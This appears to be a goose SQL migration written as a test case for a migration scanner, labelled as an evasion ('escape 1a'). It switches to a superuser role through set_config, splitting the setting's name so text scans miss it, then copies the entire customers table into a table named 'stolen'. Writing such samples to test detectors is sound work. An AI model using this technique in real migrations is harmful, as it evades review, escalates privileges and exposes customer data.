-- The role GUC set through set_config, with its name built at run time so
-- no text scan sees it (issue 11, escape 1a).
-- +goose Up
SELECT set_config('ro' || 'le', (SELECT rolname FROM pg_catalog.pg_roles WHERE rolsuper ORDER BY oid LIMIT 1), false);
CREATE TABLE catalog.stolen AS SELECT * FROM customers.customer;

-- +goose Down
SELECT 1;
